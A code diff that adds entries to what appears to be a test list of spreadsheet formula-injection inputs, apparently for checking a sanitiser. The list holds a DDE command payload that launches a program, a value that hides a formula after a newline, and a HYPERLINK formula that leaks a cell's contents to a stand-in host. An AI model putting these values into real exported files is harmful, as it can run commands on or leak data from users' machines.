@@ -28,6 +28,8 @@ FORMULAS = (
     " \u00a0\u3000=1+1",
     "\x00=1+1",
     "\ufeff=1+1",
+    "a;=cmd|' /C calc'!A0",
+    'b;"=1+1"\n- one\n+2;\t@SUM(1+1), -3',
     '=HYPERLINK("http://example.org/?leak="&A1,"look")',
 )
 TEXTS = (
